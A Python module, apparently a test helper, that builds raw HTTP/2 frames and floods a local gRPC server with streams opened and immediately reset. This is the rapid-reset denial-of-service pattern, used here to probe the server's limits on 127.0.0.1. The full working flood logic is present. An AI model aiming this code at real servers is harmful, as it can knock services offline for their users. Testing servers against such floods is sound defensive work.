"""An HTTP/2 client with raw frames that opens more streams than allowed and resets them at once."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Sequence

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0, 1, 3, 4, 6
_ACK = 1
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = (8).to_bytes(4, "big")
_MARK = b"the last"
_LAST_STREAM = 1 << 30


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _headers(path: str, authority: str, more: Sequence[tuple[str, str]]) -> bytes:
    """Returns a header block of literals, without Huffman coding and without indexing."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority), *more]
    fields += [("content-type", "application/grpc"), ("te", "trailers")]
    block = b""
    for name, value in fields:
        block += b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
    return block


async def _until_pong(reader: asyncio.StreamReader) -> None:
    """Waits until the server has read everything before the last frame, or closes the connection."""
    pong = _frame(_PING, _ACK, 0, _MARK)
    data = b""
    while pong not in data:
        piece = await reader.read(1 << 16)
        if not piece:
            return
        data = data[-len(pong) :] + piece


class ResetFlood:
    """Calls of one method that are reset as they are opened."""

    def __init__(self, port: int, path: str, message: bytes | None, headers: Sequence[tuple[str, str]] = ()) -> None:
        self._port = port
        self._block = _headers(path, f"127.0.0.1:{port}", headers)
        self._message = message  # None: the call is reset before it has a request
        self.num_connections = 0

    async def send(self, num_streams: int, streams_a_write: int = 100) -> None:
        """Opens and resets streams. Reconnects if the server closes the connection."""
        left = num_streams
        while left:
            left -= await self._on_one_connection(left, streams_a_write)

    async def _on_one_connection(self, num_streams: int, streams_a_write: int) -> int:
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
        self.num_connections += 1
        ended = asyncio.create_task(_until_pong(reader))
        sent = 0
        try:
            writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
            while sent < num_streams and not ended.done() and 2 * sent < _LAST_STREAM:
                count = min(streams_a_write, num_streams - sent)
                writer.write(b"".join(self._opened_and_reset(2 * (sent + at) + 1) for at in range(count)))
                sent += count
                await writer.drain()
                await asyncio.sleep(0)
            writer.write(_frame(_PING, 0, 0, _MARK))
            await ended
        except ConnectionError:
            pass  # with a GOAWAY
        finally:
            writer.transport.abort()
            with contextlib.suppress(ConnectionError):
                await ended
        return max(1, sent)

    def _opened_and_reset(self, stream: int) -> bytes:
        opened = _frame(_HEADERS, _END_HEADERS, stream, self._block)
        if self._message is not None:
            data = b"\0" + len(self._message).to_bytes(4, "big") + self._message
            opened += _frame(_DATA, _END_STREAM, stream, data)
        return opened + _frame(_RST_STREAM, 0, stream, _CANCEL)
